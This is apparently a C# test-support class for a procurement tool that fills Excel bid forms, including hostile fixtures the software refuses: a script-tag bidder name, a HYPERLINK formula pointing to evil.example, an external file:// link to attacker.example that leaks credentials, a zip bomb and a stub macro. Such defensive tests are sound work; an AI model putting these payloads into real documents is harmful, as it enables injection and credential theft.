using System.Text;
using ProcurementKit.Catalog;
using ProcurementKit.Evaluation;
using ProcurementKit.Rendering.Excel;
using ProcurementKit.Rendering.Excel.ResponseForm;
using ProcurementKit.Selection;
using ProcurementKit.Tests.Support;
using ProcurementKit.Workflow;

namespace ProcurementKit.Web.Tests.Support;

/// <summary>
/// Response forms of the managed-operations example (one lot, extended reference-value method), composed by the
/// core and filled the way bidders return them: five offers (one excluded, two tied, one with qualitative claims
/// still to assess, one whose name is markup and one whose name is a formula) and the hostile files the core refuses.
/// </summary>
internal sealed class ReturnedForms
{
    public const string TenderFile = "managed-operations.json";

    public const string ScriptBidder = "<script>alert('pk')</script> Skript GmbH";
    public const string FormulaBidder = "=HYPERLINK(\"http://evil.example\",\"Klick\")";

    private static readonly Lazy<ReturnedForms> s_instance = new(() => new ReturnedForms());

    private ReturnedForms()
    {
        TenderJson = File.ReadAllText(Examples.Path(TenderFile));
        Tender = TenderWorkflow.Prepare(ShippedCatalog.Catalog, new MemoryStream(Encoding.UTF8.GetBytes(TenderJson)), "tender.json").Value!;
        Blank = Examples.Composed(TenderJson, "response-form.xlsx");
    }

    public static ReturnedForms Instance => s_instance.Value;

    public string TenderJson { get; }

    public PreparedTender Tender { get; }

    public byte[] Blank { get; }

    private Language Language => Tender.Language;

    private IReadOnlyList<SelectedRequirement> Requirements => Tender.Selection.Requirements;

    /// <summary>A form filled for one bidder: <paramref name="answer"/> per requirement, quantitative criteria at their full-points value.</summary>
    public byte[] Fill(string bidder, decimal price, Func<SelectedRequirement, Answer> answer)
    {
        var columns = ResponseFormLayout.Columns(Tender.Selection);
        var offer = ResponseFormLayout.OfferSheet(Language);
        var sheet = ResponseFormLayout.RequirementsSheet(Language);
        var filler = new FormFiller()
            .SharedText(offer, CellRef.Of(2, ResponseFormLayout.BidderRow), bidder)
            .SharedText(offer, CellRef.Of(2, ResponseFormLayout.DeclarantRow), "Erika Muster")
            .Number(offer, CellRef.Of(2, ResponseFormLayout.PriceRow(Tender.Tender, 0)), price);
        var row = ResponseFormLayout.FirstRequirementRow;
        foreach (var requirement in Requirements)
        {
            filler.SharedText(sheet, CellRef.Of(columns.Answer, row), answer(requirement).Label(Language));
            if (!requirement.Obligation.IsKnockOut && QuantitativeScore.For(requirement) is { } score)
            {
                filler.Number(sheet, CellRef.Of(columns.Value, row), score.FullAt);
            }

            row++;
        }

        return filler.Apply(Blank);
    }

    private static bool IsQualitative(SelectedRequirement r) => !r.Obligation.IsKnockOut && QuantitativeScore.For(r) is null;

    /// <summary>Five offers: two tied at the top, one with claims to assess, one excluded, one meeting no B criterion.</summary>
    public IReadOnlyList<(string Name, byte[] Content)> FiveOffers()
    {
        var firstKnockOut = Requirements.First(r => r.Obligation.IsKnockOut);
        return
        [
            ("alpha.xlsx", Fill("Alpha Betrieb GmbH", 200_000m, _ => Answer.Met)),
            ("skript.xlsx", Fill(ScriptBidder, 200_000m, _ => Answer.Met)),
            ("formel.xlsx", Fill(FormulaBidder, 250_000m, r => IsQualitative(r) ? Answer.PartiallyMet : Answer.Met)),
            ("gamma.xlsx", Fill("Gamma IoT KG", 120_000m, r => r == firstKnockOut ? Answer.NotMet : Answer.Met)),
            ("delta.xlsx", Fill("Delta Sensorik eG", 180_000m, r => r.Obligation.IsKnockOut ? Answer.Met : Answer.NotMet)),
        ];
    }

    /// <summary>A form whose sheet links an image on a file share: opening it would leak credentials (PK0607).</summary>
    public byte[] ExternalRelationship()
    {
        var form = Fill("Extern AG", 100_000m, _ => Answer.Met);
        var sheet = ZipEdit.Names(form).First(n => n.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal));
        return ZipEdit.Put(form, $"xl/worksheets/_rels/{Path.GetFileName(sheet)}.rels",
            """<?xml version="1.0" encoding="utf-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://attacker.example/share/logo.png" TargetMode="External"/></Relationships>""");
    }

    /// <summary>A form with 64 MB of zeros packed into one entry (PK0606).</summary>
    public byte[] ZipBomb() => ZipEdit.Put(Fill("Bombe KG", 100_000m, _ => Answer.Met), "xl/media/image1.png", new byte[64 * 1024 * 1024]);

    /// <summary>A form with a VBA project (PK0605).</summary>
    public byte[] Macro() => ZipEdit.Put(Fill("Makro GmbH", 100_000m, _ => Answer.Met), "xl/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 1, 2, 3]);
}
